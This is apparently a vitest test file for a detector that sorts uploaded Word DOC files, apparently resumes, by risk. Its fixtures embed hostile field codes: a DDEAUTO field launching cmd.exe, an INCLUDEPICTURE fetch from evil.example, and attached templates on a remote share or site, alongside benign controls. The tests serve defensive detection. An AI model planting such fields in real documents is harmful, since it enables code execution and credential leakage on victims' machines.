import { anOle } from '#tests/factories/ole.ts';
import { wordStream } from '#tests/factories/resume.ts';
import { describe, expect, it } from 'vitest';
import { resumeTypeOf } from './resume-type.ts';

const outcome = (bytes: Buffer) =>
  resumeTypeOf(bytes).catch((error: { reason?: string }) => error.reason ?? String(error));

function aDocSaying(text: string, encoding: 'latin1' | 'utf16le' = 'latin1', at = 2048): Buffer {
  const content = wordStream({ size: 8192 });
  content.write(text, at, encoding);
  return anOle([{ name: 'WordDocument', content }]);
}

function aDocFrom(template: string): Buffer {
  const content = wordStream({ size: 8192 });
  const texts = [''.padEnd(0), template].map((text) => {
    const length = Buffer.alloc(2);
    length.writeUInt16LE(text.length);
    return Buffer.concat([length, Buffer.from(text, 'utf16le')]);
  });
  const list = Buffer.concat([Buffer.from('ffff12000000', 'hex'), ...texts]);
  content.writeUInt32LE(100, 0x19a);
  content.writeUInt32LE(list.length, 0x19e);
  const table = Buffer.alloc(4608);
  list.copy(table, 100);
  return anOle([
    { name: 'WordDocument', content },
    { name: '0Table', content: table },
  ]);
}

describe('a DOC', () => {
  it.each([
    ['that starts a program', aDocSaying('\u0013 DDEAUTO c:\\\\cmd.exe \u0014x\u0015'), 'activeFields'],
    [
      'that starts one, two bytes to a letter',
      aDocSaying('\u0013DDEAUTO x\u0015', 'utf16le'),
      'activeFields',
    ],
    [
      'that starts one, at an odd place',
      aDocSaying('\u0013DDEAUTO x\u0015', 'utf16le', 2049),
      'activeFields',
    ],
    [
      'that fetches a picture',
      aDocSaying('\u0013INCLUDEPICTURE "http://evil.example/x" \\d\u0015'),
      'remote',
    ],
    ['with a link in it', aDocSaying('\u0013 HYPERLINK "http://asha.example" \u0014me\u0015'), 'doc'],
    ['that talks of one', aDocSaying('I know DDEAUTO and INCLUDETEXT.'), 'doc'],
    ['with a template of a share', aDocFrom('\\\\evil.example\\t.dot'), 'remote'],
    ['with a template of a site', aDocFrom('https://evil.example/t.dot'), 'remote'],
    ['with a template of its own disk', aDocFrom('C:\\Users\\Asha\\Normal.dot'), 'doc'],
  ])('%s', async (_, bytes, expected) => {
    expect(await outcome(bytes)).toBe(expected);
  });
});
